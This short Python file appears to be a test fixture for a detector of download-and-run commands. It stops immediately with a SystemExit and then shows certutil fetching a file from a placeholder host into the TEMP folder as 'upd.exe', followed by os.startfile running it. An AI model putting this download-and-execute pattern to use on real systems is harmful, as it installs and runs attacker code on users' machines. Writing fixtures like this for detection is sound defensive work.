raise SystemExit('a fixture')
# held by command-download
import os
target = os.path.join(os.environ["TEMP"], "upd.exe")
os.system("certutil -urlcache -split -f https://dl.example.invalid/u.txt " + target)
os.startfile(target)
